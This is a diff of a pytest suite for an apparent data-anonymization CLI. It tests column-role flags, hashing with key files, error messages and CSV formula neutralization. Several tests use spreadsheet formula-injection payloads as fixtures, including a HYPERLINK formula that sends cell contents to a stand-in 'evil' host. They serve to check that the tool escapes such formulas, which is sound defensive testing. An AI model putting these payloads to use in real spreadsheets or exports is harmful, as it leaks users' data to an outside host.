@@ -135,8 +135,11 @@ def test_perturbations(csv_with_header):
                           "--s_ids", 4).stdout)
     assert hashed["name"].str.len().eq(64).all() and hashed["age"].tolist() == [
         str(a) for a in PEOPLE["age"]]
-    a = run("-i", csv_with_header, "-f", "-a", "shuffler", "--cols2shuffle", "1,4", "-s", 7)
-    b = run("-i", csv_with_header, "-f", "-a", "shuffler", "--cols2shuffle", "1,4", "-s", 7)
+    # the shufflers keep identifier columns (the reference's contract): name is declared one
+    a = run("-i", csv_with_header, "-f", "-a", "shuffler", "--i_ids", 0, "--cols2shuffle", "1,4",
+            "-s", 7)
+    b = run("-i", csv_with_header, "-f", "-a", "shuffler", "--i_ids", 0, "--cols2shuffle", "1,4",
+            "-s", 7)
     assert a.stdout == b.stdout
     sh = read_out(a.stdout)
     assert sorted(sh["age"].astype(int)) == sorted(PEOPLE["age"])
@@ -160,7 +163,8 @@ KEY = b"0123456789abcdef0123456789abcdef"
 
 
 def test_unkeyed_hasher_warns_and_points_to_key_file(csv_with_header):
-    proc = run("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--s_ids", 4)
+    proc = run("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--qi_ids", "1,2,3",
+               "--s_ids", 4)
     assert proc.returncode == 0
     lines = proc.stderr.strip().splitlines()
     assert len(lines) == 1 and lines[0].startswith("depersonalize: warning: ")
@@ -175,7 +179,8 @@ def test_unkeyed_hasher_warns_and_points_to_key_file(csv_with_header):
 def test_key_file_gives_hmac_pseudonyms_without_warning(tmp_path, csv_with_header, content):
     key_file = tmp_path / "key"
     key_file.write_bytes(content)
-    proc = run("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", "0,3", "--s_ids", 4,
+    proc = run("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", "0,3", "--qi_ids", "1,2",
+               "--s_ids", 4,
                "--key-file", key_file)
     assert proc.returncode == 0 and proc.stderr == "", proc.stderr
     out = read_out(proc.stdout)
@@ -212,7 +217,8 @@ def test_key_file_with_column_context(tmp_path, csv_with_header, csv_plain):
 def test_short_key_file_warns_in_one_line(tmp_path, csv_with_header):
     key_file = tmp_path / "key"
     key_file.write_text("tiny\n")
-    proc = run("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--key-file", key_file)
+    proc = run("-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--qi_ids", "1,2,3,4",
+               "--key-file", key_file)
     assert proc.returncode == 0
     lines = proc.stderr.strip().splitlines()
     assert len(lines) == 1 and lines[0].startswith("depersonalize: warning: ")
@@ -249,6 +255,11 @@ def test_key_file_errors(tmp_path, csv_with_header, setup, extra, fragment):
 # ============================================================================ CSV formulas
 
 
+#: shuffle column 0 (a quasi-identifier), the other columns published unchanged on purpose
+SHUFFLE_ID = ("--qi_ids", 0, "--insensitive_ids", "1,2", "--cols2shuffle", 0, "-s", 1)
+SHUFFLE_ID2 = ("--qi_ids", 0, "--insensitive_ids", 1, "--cols2shuffle", 0, "-s", 1)
+
+
 @pytest.fixture()
 def csv_formulas(tmp_path):
     path = tmp_path / "formulas.csv"
@@ -259,7 +270,7 @@ def csv_formulas(tmp_path):
 
 
 def test_csv_output_neutralizes_formulas_by_default(tmp_path, csv_formulas):
-    proc = run("-i", csv_formulas, "-f", "-a", "shuffler", "--cols2shuffle", 0, "-s", 1)
+    proc = run("-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID)
     assert proc.returncode == 0, proc.stderr
     lines = proc.stdout.splitlines()
     assert lines[0] == "id,delta,note"
@@ -267,11 +278,11 @@ def test_csv_output_neutralizes_formulas_by_default(tmp_path, csv_formulas):
         ["-5", "\"'=HYPERLINK(\"\"http://evil\"\")\""], ["3", "'@SUM(A1)"], ["-1", "fine"]]
     # the same to a file
     out = tmp_path / "o.csv"
-    assert run("-i", csv_formulas, "-f", "-a", "shuffler", "--cols2shuffle", 0, "-s", 1,
+    assert run("-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID,
                "-o", out).returncode == 0
     assert out.read_text() == proc.stdout
     # turned off
-    raw = run("-i", csv_formulas, "-f", "-a", "shuffler", "--cols2shuffle", 0, "-s", 1,
+    raw = run("-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID,
               "--no-csv-escape")
     assert read_out(raw.stdout)["note"].tolist() == ["=HYPERLINK(\"http://evil\")", "@SUM(A1)",
                                                      "fine"]
@@ -279,7 +290,7 @@ def test_csv_output_neutralizes_formulas_by_default(tmp_path, csv_formulas):
 
 def test_parquet_output_is_not_escaped(tmp_path, csv_formulas):
     out = tmp_path / "o.parquet"
-    proc = run("-i", csv_formulas, "-f", "-a", "shuffler", "--cols2shuffle", 0, "-s", 1,
+    proc = run("-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID,
                "-o", out)
     assert proc.returncode == 0, proc.stderr
     frame = pd.read_parquet(out)
@@ -349,8 +360,10 @@ def test_output_files_csv_and_parquet(tmp_path, csv_with_header):
     (["-i", "{dir}", "-k", "2"], "is a directory"),
     (["-i", "{empty}", "-k", "2"], "empty"),
     (["-i", "{badparquet}", "-k", "2"], "cannot read"),
-    (["-i", "{csv}", "-f", "-k", "2", "--types", "ruuuu", "-a", "time_optimal", "-r", "g"],
-     "declared 'real'"),
+    (["-i", "{csv}", "-f", "-k", "2", "--types", "ruuuu", "-a", "time_optimal", "-r", "g",
+      "--qi_ids", "0,1,2,3,4"], "declared 'real'"),
+    (["-i", "{csv}", "-f", "-k", "2", "-a", "datafly"], "column 0 (name): its name looks like "
+     "an identifier"),
     (["-i", "{csv}", "-k", "2", "-a", "datafly", "-o", "{dir}/x/y/z.csv"], "cannot write"),
 ])
 def test_errors_are_one_line_with_exit_code_2(tmp_path, csv_with_header, args, fragment):
@@ -486,8 +499,8 @@ def out_l_t(out: pd.DataFrame, qis) -> tuple[int, float]:
 
 @pytest.mark.parametrize("algorithm", ["datafly", "greedy"])
 def test_datafly_and_greedy_enforce_l_and_t(csv_pairs, algorithm):
-    base = ["-i", csv_pairs, "-f", "-a", algorithm, "-k", 2, "--i_ids", 0, "--s_ids", 3,
-            "--types", "rr"]
+    base = ["-i", csv_pairs, "-f", "-a", algorithm, "-k", 2, "--i_ids", 0, "--qi_ids", "1,2",
+            "--s_ids", 3, "--types", "rr"]
     k_only = read_out(run(*base).stdout)
     assert out_l_t(k_only, ["age", "zip"])[0] == 1  # what -m l used to print
     proc = run(*base, "-m", "l", "-l", 2)
@@ -530,17 +543,18 @@ def test_ignored_privacy_flags_are_errors(csv_pairs, args, message):
 
 def test_messages_name_flags_not_parameters(csv_pairs):
     proc = run("-i", csv_pairs, "-f", "-a", "datafly", "-k", 2, "--types", "r",
-               check_one_line_error=True)
+               "--qi_ids", "0,1,2,3", check_one_line_error=True)
     assert proc.stderr == ("depersonalize: error: --types has 1 entries but there are 4 such "
                            "column(s); give one kind (real, ordered, unordered) per column\n")
-    proc = run("-i", csv_pairs, "-f", "-a", "baseline", "-k", 2, "--s_ids", 3, "-m", "t",
+    proc = run("-i", csv_pairs, "-f", "-a", "baseline", "-k", 2, "--i_ids", 0, "--s_ids", 3,
+               "-m", "t",
                "-t", 0.2, "--s_types", "rr", check_one_line_error=True)
     assert "--s_types" in proc.stderr and "sensitives_types" not in proc.stderr
 
 
 def test_columns_without_a_role_are_kept(csv_pairs):
     proc = run("-i", csv_pairs, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0, "--qi_ids", 1,
-               "--s_ids", 3, "--types", "r")
+               "--s_ids", 3, "--types", "r", "--insensitive_ids", 2)
     assert proc.returncode == 0 and proc.stderr == ""
     out = read_out(proc.stdout)
     assert list(out.columns) == ["age", "zip", "disease"]
@@ -548,18 +562,19 @@ def test_columns_without_a_role_are_kept(csv_pairs):
 
 
 def test_header_line_without_f_warns(csv_pairs, csv_plain):
-    proc = run("-i", csv_pairs, "-a", "datafly", "-k", 2, "--i_ids", 0, "--s_ids", 3)
+    proc = run("-i", csv_pairs, "-a", "datafly", "-k", 2, "--i_ids", 0, "--qi_ids", "1,2",
+               "--s_ids", 3)
     assert proc.returncode == 0
     assert proc.stderr == (
         "depersonalize: warning: the first line (id, age, zip, disease) looks like a header "
         "(text above numeric columns) but -f/--header was not given, so it is anonymized as a "
         "data row; add -f if it is a header\n")
-    assert run("-i", csv_pairs, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0,
+    assert run("-i", csv_pairs, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0, "--qi_ids", "1,2",
                "--s_ids", 3).stderr == ""
-    assert run("-i", csv_plain, "-a", "datafly", "-k", 2, "--i_ids", 0,
+    assert run("-i", csv_plain, "-a", "datafly", "-k", 2, "--i_ids", 0, "--qi_ids", "1,2,3",
                "--s_ids", 4).stderr == ""
-    proc = run("-i", csv_pairs, "-a", "datafly", "-k", 2, "--types", "rr",
-               check_one_line_error=True)
+    proc = run("-i", csv_pairs, "-a", "datafly", "-k", 2, "--types", "rr", "--i_ids", 0,
+               "--qi_ids", "1,2", "--s_ids", 3, check_one_line_error=True)
     assert proc.stderr.endswith(" (the first line looks like a header: add -f if it is one)\n")
 
 
@@ -866,7 +881,7 @@ def test_a_100000_field_line_is_refused_in_well_under_a_second(tmp_path, capsys)
 def test_equal_field_counts_with_quotes_blank_lines_and_spaces_still_read(tmp_path):
     path = tmp_path / "ok.csv"
     path.write_text('a,b\n1, "x, y"\n\n  \n2,"multi\nline"\n')
-    proc = run("-i", path, "-f", "-a", "shuffler", "--cols2shuffle", 0, "-s", 1)
+    proc = run("-i", path, "-f", "-a", "shuffler", *SHUFFLE_ID2)
     assert proc.returncode == 0, proc.stderr
     assert proc.stdout == 'a,b\n1,"x, y"\n2,"multi\nline"\n'
 
@@ -909,7 +924,7 @@ def test_line_breaks_before_a_formula_are_quoted_and_guarded(tmp_path):
         w = _csv.writer(fh, quoting=_csv.QUOTE_ALL, lineterminator="\n")
         w.writerow(["id", "note"])
         w.writerows([[i, n] for i, n in enumerate(notes)])
-    proc = run("-i", src, "-f", "-a", "shuffler", "--cols2shuffle", 0, "-s", 1)
+    proc = run("-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2)
     assert proc.returncode == 0, proc.stderr
     from pdanon.csvsafe import neutralize_formulas
 
@@ -917,17 +932,86 @@ def test_line_breaks_before_a_formula_are_quoted_and_guarded(tmp_path):
     assert expected[0] == "x\r'=HYPERLINK(\"http://evil/?\"&A1)"
     assert expected[len(BREAKS)] == "'\r'=HYPERLINK(1)"
     out = tmp_path / "o.csv"
-    assert run("-i", src, "-f", "-a", "shuffler", "--cols2shuffle", 0, "-s", 1,
+    assert run("-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2,
                "-o", out).returncode == 0
     with open(out, encoding="utf-8", newline="") as fh:
         written = fh.read()
     _rows_never_start_a_formula(written, len(notes), expected)
     # without the formula guard the cells are still quoted: a CSV reader gets them back whole
     raw = tmp_path / "raw.csv"
-    assert run("-i", src, "-f", "-a", "shuffler", "--cols2shuffle", 0, "-s", 1,
+    assert run("-i", src, "-f", "-a", "shuffler", *SHUFFLE_ID2,
                "--no-csv-escape", "-o", raw).returncode == 0
     with open(raw, encoding="utf-8", newline="") as fh:
         import csv as _csv
 
         rows = list(_csv.reader(fh))
     assert [r[1] for r in rows[1:]] == notes
+
+
+# ============================================================================ undecided columns
+
+
+def test_undecided_identifiers_are_refused_and_decided_ones_published(tmp_path):
+    # the discharge table of the issue: identifiers, free text, a date of birth and a price,
+    # none given a role; without --i_ids they used to be published (exit 0, no warning)
+    d = pdanon.datasets.make_discharges(300, seed=4)
+    src = tmp_path / "discharges.csv"
+    d.to_csv(src, index=False)
+    proc = run("-i", src, "-f", "-a", "datafly", "-k", 5, check_one_line_error=True)
+    msg = proc.stderr
+    for number, name in ((0, "patient_id"), (1, "name"), (2, "note"), (3, "birth_date"),
+                         (10, "charges")):
+        assert f"column {number} ({name}): " in msg
+    assert "--i_ids 0,1,2,3,10" in msg and "--insensitive_ids 0,1,2,3,10" in msg
+    out = tmp_path / "out.csv"
+    proc = run("-i", src, "-f", "-a", "datafly", "-k", 5, "--i_ids", "0,1,2", "--qi_ids", "6,7",
+               "--s_ids", 9, "--insensitive_ids", "3,4,5,8,10,11", "-o", out)
+    assert proc.returncode == 0, proc.stderr
+    assert "note:" not in proc.stderr  # every column decided: nothing to say
+    published = pd.read_csv(out, dtype=str)
+    assert not {"patient_id", "name", "note"} & set(published.columns)
+    assert not set(d["name"]) & set(published.stack())
+
+
+def test_roles_chosen_for_unnamed_columns_are_noted(csv_with_header):
+    proc = run("-i", csv_with_header, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0,
+               "--s_ids", 4)
+    assert proc.returncode == 0
+    assert proc.stderr == ("depersonalize: note: roles chosen for the columns no flag names: "
+                           "quasi-identifiers 1 (age), 2 (edu), 3 (sex) (decide with --qi_ids / "
+                           "--i_ids / --s_ids / --insensitive_ids)\n")
+    proc = run("-i", csv_with_header, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0,
+               "--insensitive_ids", 4, "--qi_ids", 0, check_one_line_error=True)
+    assert "column 0 is given two roles" in proc.stderr
+
+
+# ============================================================================ printed figures
+
+
+def test_output_summary_prints_named_figures(tmp_path, csv_with_header):
+    """With -o: a summary line, then one `key value` line per figure, keyed as
+    pdanon.metrics.FIGURES (no unlabeled number)."""
+    from pdanon.metrics import FIGURES
+
+    out = tmp_path / "out.csv"
+    # nearest-row suppression, k=2, over (age, edu, sex): rows {0, 3} differ in age and edu
+    # (4 cells), {1, 2} in age (2), {4, 5} in all three (6): 12 suppressed cells
+    proc = run("-i", csv_with_header, "-f", "-a", "time_optimal", "-r", "s", "-k", 2,
+               "--i_ids", 0, "--s_ids", 4, "-o", out)
+    assert proc.returncode == 0, proc.stderr
+    lines = proc.stderr.splitlines()
+    assert lines == [f"depersonalize: time_optimal (k, suppression) -> {out}", "rows 6",
+                     "changed_cells 12"], proc.stderr
+    proc = run("-i", csv_with_header, "-f", "-a", "greedy", "-k", 2, "--i_ids", 0,
+               "--s_ids", 4, "-o", out)
+    assert proc.returncode == 0, proc.stderr
+    lines = proc.stderr.splitlines()  # (a warning may come first: one class of 6 rows)
+    start = lines.index(f"depersonalize: greedy (k) -> {out}") + 1
+    figures = dict(line.split(" ") for line in lines[start:])
+    assert set(figures) == {"rows", "group_size"} and figures["rows"] == "6"
+    assert int(figures["group_size"]) >= 2
+    proc = run("-i", csv_with_header, "-f", "-a", "shuffler", "--i_ids", 0, "-o", out)
+    assert proc.stderr.splitlines()[1:] == ["rows 6"], proc.stderr
+    from pdanon.cli import COUNT_KEYS
+
+    assert {"rows", "changed_cells", *COUNT_KEYS.values()} <= set(FIGURES)
